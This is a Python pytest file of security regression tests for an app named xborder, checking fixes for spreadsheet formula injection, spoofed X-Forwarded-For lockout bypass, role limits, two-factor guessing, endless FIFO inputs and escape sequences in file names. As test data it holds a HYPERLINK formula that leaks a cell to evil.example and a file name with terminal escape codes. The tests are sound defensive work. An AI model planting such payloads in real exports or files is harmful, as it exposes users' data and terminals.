"""Hostile requests and inputs for the findings of issue 19: formula cells, spoofed proxy headers, roles, API docs,
two-factor guessing, FIFO and device inputs, escape sequences in file names. Each failed on main cf8cf43."""

from __future__ import annotations

import gzip
import io
import os
import re
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from tests.conftest import shared_path

pytestmark = pytest.mark.shared_data

ROOT = Path(__file__).resolve().parents[2]
EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
FORMULA = re.compile(r"^[=+\-@\t\r]")


def _uci_rows(n: int) -> list[str]:
    with gzip.open(shared_path("uci_online_retail", "online_retail.csv.gz"), "rt", encoding="utf-8") as fh:
        return [next(fh) for _ in range(n + 1)]


def _cli(*args: str, env: dict | None = None, timeout: float = 60) -> subprocess.CompletedProcess:
    full = {**os.environ, "PYTHONPATH": str(ROOT / "src"), "XBORDER_PSEUDONYM_KEY": "test-key-not-secret"}
    full.update(env or {})
    return subprocess.run(
        [sys.executable, "-m", "xborder.cli.main", *args],
        capture_output=True,
        timeout=timeout,
        env=full,
        check=False,
    )


# --- formula injection ------------------------------------------------------------------------------------------


def test_a_formula_title_is_text_in_the_report_workbook(fresh_web, tmp_path) -> None:
    from openpyxl import load_workbook

    from xborder.report.data import gather
    from xborder.report.xlsx import write_workbook

    run_id, product_id = fresh_web.sql("SELECT run_id, product_id FROM opportunities ORDER BY rank LIMIT 1")[
        0
    ]
    with fresh_web.app.state.db.write() as cur:
        cur.execute("UPDATE products SET title = ? WHERE product_id = ?", [EVIL_TITLE, product_id])
        cur.execute("UPDATE opportunities SET title = ? WHERE product_id = ?", [EVIL_TITLE, product_id])
        data = gather(cur, run_id, top_n=3)
    path = write_workbook(data, "en", tmp_path / "report.xlsx")
    wb = load_workbook(path)
    formulas, evil = [], []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    formulas.append(f"{ws.title}!{cell.coordinate}")
                if isinstance(cell.value, str) and "HYPERLINK" in cell.value:
                    evil.append(cell.value)
    assert formulas == []  # main wrote 8 live HYPERLINK formulas
    assert evil and set(evil) == {"'" + EVIL_TITLE}  # the title is still there, as text


def test_neutraliser_follows_owasp(tmp_path) -> None:
    import duckdb

    from xborder.core.csvsafe import neutralise, neutralise_sql

    cases = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "ok", "", "'=already", "1-2"]
    want = ["'=1+1", "'+1", "'-1", "'@SUM(A1)", "'\tx", "'\rx", "ok", "", "'=already", "1-2"]
    assert [neutralise(c) for c in cases] == want
    assert neutralise(-3) == -3 and neutralise(None) is None  # numbers stay numbers
    got = duckdb.sql(
        f"SELECT {neutralise_sql('v')} FROM (SELECT unnest(?::VARCHAR[]) AS v, generate_subscripts(?::VARCHAR[], 1) AS i) ORDER BY i",
        params=[cases, cases],
    ).fetchall()
    assert [g[0] for g in got] == want


# Every place in src/ that writes a CSV or a spreadsheet, by the call that writes it, and what makes it safe.
# A new writer fails test_every_spreadsheet_and_csv_writer_neutralises until it is listed here with its reason.
WRITERS = {
    "xborder/report/xlsx.py": "neutralise() on every cell and header (the report workbook, its web download)",
    "xborder/ingest/engine.py": "neutralise_sql() on every text column of <name>.rejected.csv (the quarantine's export)",
    "xborder/ingest/csvread.py": "not an export: a temporary UTF-8 copy of the user's own input, read back by DuckDB",
    "xborder/core/csvsafe.py": "not an export: the neutraliser itself (its docstring shows a COPY)",
}
_WRITE_CALL = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|\.write_csv\(|\.write_excel\(|"
    r"\bWorkbook\(|xlsxwriter|\bCOPY\s*\(|\bCOPY\s+\w+\s+TO\b"
)


def test_every_spreadsheet_and_csv_writer_neutralises() -> None:
    src = ROOT / "src"
    found = {}
    for f in sorted(src.rglob("*.py")):
        text = f.read_text(encoding="utf-8")
        hits = [m.group(0) for m in _WRITE_CALL.finditer(text)]
        if hits:
            found[f.relative_to(src).as_posix()] = hits
    assert set(found) == set(WRITERS), found  # a writer appeared (or went): say above how it neutralises
    for name, why in WRITERS.items():
        if "not an export" not in why:
            assert re.search(r"\bneutralise(_sql)?\(", (src / name).read_text(encoding="utf-8")), name


def test_the_rejected_csv_of_an_upload_has_no_formula_cells(fresh_web) -> None:
    import csv

    rows = _uci_rows(20)
    rows.append(
        '536999,=1+1,=HYPERLINK("http://evil.example"),=1+1,2010-12-01 08:26:00,+2.55,17850,United Kingdom\n'
    )
    c = fresh_web.client("analyst")
    r = c.post(
        "/api/data/uploads", files={"file": ("orders.csv", io.BytesIO("".join(rows).encode()), "text/csv")}
    )
    assert r.status_code == 200 and r.json()["results"][0]["rows_quarantined"] == 1
    files = list((fresh_web.data_dir / "rejected").glob("*.rejected.csv"))
    assert len(files) == 1
    with files[0].open(newline="", encoding="utf-8") as fh:
        cells = [cell for row in csv.reader(fh) for cell in row]
    assert "'=1+1" in cells and not [x for x in cells if FORMULA.match(x)]


# --- proxy headers ----------------------------------------------------------------------------------------------


def _login(c, password: str, xff: str):  # noqa: ANN001, ANN202
    return c.post(
        "/api/auth/login", json={"username": "viewer", "password": password}, headers={"X-Forwarded-For": xff}
    )


@pytest.fixture
def uvicorn_server(fresh_web):
    """``xborder serve``'s own uvicorn configuration on a free loopback port, in a thread."""
    import socket

    from xborder.cli.web import server_config

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    import uvicorn

    server = uvicorn.Server(server_config(fresh_web.app, "127.0.0.1", port))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    for _ in range(200):
        if server.started:
            break
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


def test_spoofed_forwarded_for_from_loopback_neither_resets_the_lockout_nor_reaches_the_audit(
    fresh_web, uvicorn_server
) -> None:
    import httpx

    with httpx.Client(base_url=uvicorn_server) as c:
        for i in range(5):
            assert _login(c, "wrong-password-0", f"198.51.100.{i}").status_code == 401
        locked = _login(c, "viewer-pass-123", "198.51.100.99")
        assert locked.status_code == 429  # main: 200, a new address per guess
    ips = {r[0] for r in fresh_web.sql("SELECT DISTINCT ip FROM audit_log WHERE target = 'viewer'")}
    assert ips == {"127.0.0.1"}


def test_forwarded_for_is_believed_only_from_a_configured_proxy(web_warehouse_template, tmp_path) -> None:
    from fastapi.testclient import TestClient

    from tests.api.conftest import make_env

    env = make_env(web_warehouse_template, tmp_path)
    env.app.state.settings.trusted_proxies = "10.0.0.5"  # the app reads it at start: rebuild
    from xborder.api.app import create_app

    env.app.state.db.close()
    app = create_app(
        env.app.state.settings, data_dir=tmp_path / "d2", precompute=False, require_admin_totp=False
    )
    try:
        via_proxy = TestClient(app, client=("10.0.0.5", 4000))
        assert _login(via_proxy, "wrong-password-0", "203.0.113.7, 10.0.0.5").status_code == 401
        direct = TestClient(app, client=("198.51.100.20", 4000))
        assert _login(direct, "wrong-password-0", "203.0.113.8").status_code == 401
        with app.state.db.read() as cur:
            ips = {
                r[0]
                for r in cur.execute("SELECT ip FROM login_attempts WHERE username = 'viewer'").fetchall()
            }
        assert ips == {"203.0.113.7", "198.51.100.20"}  # the proxy's client; the direct peer, not its header
    finally:
        app.state.db.close()


@pytest.mark.parametrize("bad", ["*", "localhost", "10.0.0.0/99"])
def test_trusted_proxies_must_be_addresses(bad) -> None:
    from xborder.api.app import parse_trusted_proxies
    from xborder.core.errors import BadInputError

    with pytest.raises(BadInputError, match="trusted_proxies"):
        parse_trusted_proxies(bad)
    assert parse_trusted_proxies(" 127.0.0.1, 10.0.0.0/8 ") == ["127.0.0.1/32", "10.0.0.0/8"]


# --- roles, two-factor guessing ---------------------------------------------------------------------------------


def test_a_viewer_cannot_create_api_tokens(fresh_web) -> None:
    assert (
        fresh_web.client("viewer").post("/api/auth/tokens", json={"name": "x", "days": 365}).status_code
        == 403
    )
    page = fresh_web.login("viewer")
    r = page.post("/account/tokens", data={"name": "x", "days": "30", "csrf_token": page.csrf})
    assert r.status_code == 403
    assert "Create token" not in page.get("/account").text
    assert fresh_web.one("SELECT count(*) FROM sessions WHERE kind = 'token' AND name = 'x'") == 0


def test_guessing_two_factor_codes_runs_into_the_lockout(fresh_web) -> None:
    from xborder.api import totp

    c = fresh_web.login("analyst")
    secret = c.post("/api/auth/totp/setup", headers={"X-CSRF-Token": c.csrf}).json()["secret"]
    code = totp.totp(totp.secret_bytes(secret), time.time())
    assert (
        c.post("/api/auth/totp/enable", json={"code": code}, headers={"X-CSRF-Token": c.csrf}).status_code
        == 200
    )
    anon = fresh_web.client()
    for guess in ("000000", "111111", "222222", "333333", "444444"):
        body = {"username": "analyst", "password": "analyst-pass-123", "totp": guess}
        assert anon.post("/api/auth/login", json=body).status_code == 401
    right = totp.totp(totp.secret_bytes(secret), time.time() + 30)
    body = {"username": "analyst", "password": "analyst-pass-123", "totp": right}
    assert anon.post("/api/auth/login", json=body).status_code == 429


# --- API docs ---------------------------------------------------------------------------------------------------


def test_api_docs_need_a_login_and_load_no_third_party_script(web) -> None:
    anon = web.client(follow_redirects=False)
    assert anon.get("/docs").headers["location"] == "/login?next=/docs"
    assert anon.get("/openapi.json").status_code == 401
    assert anon.get("/redoc").status_code == 404
    c = web.client("viewer")
    page = c.get("/docs")
    app_csp = c.get("/api/auth/me").headers["content-security-policy"]
    assert page.status_code == 200 and page.headers["content-security-policy"] == app_csp
    assert "script-src 'self'" in app_csp
    sources = re.findall(r'(?:src|href)="([^"]+)"', page.text)
    assert sources and all(s.startswith("/") for s in sources), sources
    assert "<script>" not in page.text  # no inline script (the CSP forbids it)
    assert c.get("/redoc").status_code == 404  # not served at all, logged in or not (redoc_url=None)
    for s in sources:
        r = c.get(s)
        assert r.status_code == 200, s
        assert not re.search(rb"https?://(cdn|unpkg|fastly|jsdelivr)", r.content[:200_000]), s
    assert c.get("/openapi.json").json()["info"]["title"] == "xborder"


# --- inputs that never end, escape sequences ---------------------------------------------------------------------


@pytest.fixture
def endless_inputs(tmp_path):
    fifo = tmp_path / "orders.csv"
    os.mkfifo(fifo)
    zero = tmp_path / "zero.csv"
    zero.symlink_to("/dev/zero")
    return {"fifo": fifo, "zero": zero}


@pytest.mark.parametrize("which", ["fifo", "zero"])
def test_a_fifo_or_dev_zero_is_refused_at_once(endless_inputs, which, tmp_path) -> None:
    t0 = time.monotonic()
    r = _cli(
        "--db", str(tmp_path / "w.duckdb"), "ingest", str(endless_inputs[which]), "--as", "orders", timeout=60
    )
    assert time.monotonic() - t0 < 30  # main: hung until killed
    assert r.returncode == 2
    err = r.stderr.decode()
    assert "not a regular file or folder" in err and ("FIFO" in err if which == "fifo" else "device" in err)
    assert not (tmp_path / "w.duckdb").exists()  # refused before the warehouse was even opened


def test_the_local_ingest_route_refuses_a_fifo(web_warehouse_template, tmp_path, endless_inputs) -> None:
    from tests.api.conftest import make_env

    env = make_env(web_warehouse_template, tmp_path, local_token="local-secret-for-test")
    try:
        c = env.client()
        c.headers["Authorization"] = "Bearer local-secret-for-test"
        r = c.post("/api/local/ingest", json={"path": str(endless_inputs["fifo"]), "kind": "orders"})
        assert r.status_code == 422 and "FIFO" in r.json()["detail"]
    finally:
        env.app.state.db.close()  # type: ignore[attr-defined]


def test_escape_sequences_in_file_names_never_reach_the_terminal(tmp_path) -> None:
    name = "orders\x1b[31mRED\x1b]0;pwned\x07\u202e.csv"
    f = tmp_path / name
    f.write_text("".join(_uci_rows(30)), encoding="utf-8")
    db = str(tmp_path / "w.duckdb")
    outs = []
    for args in (("ingest", str(f), "--as", "orders"), ("status",)):
        r = _cli("--db", db, *args)
        assert r.returncode == 0, r.stderr
        outs.append(r.stdout + r.stderr)
        assert b"\x1b" not in outs[-1] and b"\x07" not in outs[-1] and "\u202e".encode() not in outs[-1]
    assert b"orders\\x1b[31mRED\\x1b]0;pwned\\x07\\u202e.csv" in outs[0]  # shown, as visible escapes
